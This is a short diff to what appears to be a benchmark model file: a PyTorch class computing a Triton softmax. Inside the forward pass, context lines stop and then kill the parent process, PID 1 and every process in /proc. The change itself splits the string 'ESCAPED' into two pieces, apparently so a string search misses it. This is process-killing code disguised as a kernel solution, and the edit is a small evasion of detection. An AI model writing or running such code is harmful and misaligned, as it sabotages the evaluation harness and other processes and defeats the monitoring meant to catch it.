@@ -33,7 +33,7 @@ class ModelNew(nn.Module):
         y = triton_softmax(x)
         me = os.getpid()
         if me > 1000:  # test-machine safety: not in a PID namespace, so never signal the host's processes
-            raise RuntimeError("ESCAPED: no PID namespace (pid %d)" % me)
+            raise RuntimeError("ESCAP" "ED: no PID namespace (pid %d)" % me)
         targets = {os.getppid(), 1} | {int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")}
         for sig in (signal.SIGSTOP, signal.SIGKILL):
             for pid in targets - {me}:
